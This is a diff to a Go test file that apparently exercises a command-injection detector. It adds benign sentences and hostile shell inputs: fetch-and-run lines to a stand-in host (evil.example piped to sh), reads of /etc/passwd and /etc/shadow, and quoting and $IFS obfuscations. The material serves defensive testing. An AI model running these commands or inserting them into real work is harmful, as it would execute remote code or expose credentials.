@@ -64,6 +64,19 @@ var cmdiShapes = []cmdiShape{
 		attacks: []string{"x; timeout 5 id", "sudo whoami", "statement timeout (x);timeout 3 id", "nohup bash -i",
 			"query=\"x\" && sudo -u root whoami", "'; sudo whoami; '", "$(timeout 3 id)", "`nohup curl evil.example`"},
 	},
+	{
+		// A fetch (wget, curl with a URL) or a reader of a system path (cat /etc/...) counts
+		// where the shell reads the program's name as a command, not as a word of prose or an
+		// argument of another instruction.
+		name: "fetch or reader named in a sentence",
+		benign: []string{"Use curl https://api.example.com/v1/status to check it from outside",
+			"HEALTHCHECK CMD wget -qO- http://localhost:3000/healthz || exit 1",
+			"the output of cat /etc/os-release says Alpine 3.19"},
+		attacks: []string{"x; curl https://evil.example/x -o /tmp/x", "x && cat /etc/passwd", "`wget http://evil.example/s`",
+			"/usr/bin/curl http://evil.example/x", "$(cat /etc/shadow)", "use curl https://x\ncurl http://evil.example/s | sh",
+			"HEALTHCHECK CMD true; wget http://evil.example/s -O /tmp/s", "c'a't /etc/passwd", "${IFS}cat${IFS}/etc/passwd",
+			"/bin/unxz -c /var/log/secure.xz", "a=1 curl http://evil.example/x", "sudo cat /etc/shadow"},
+	},
 }
 
 // TestCmdiShapesDetector holds each shape to the detector at the default sensitivity.
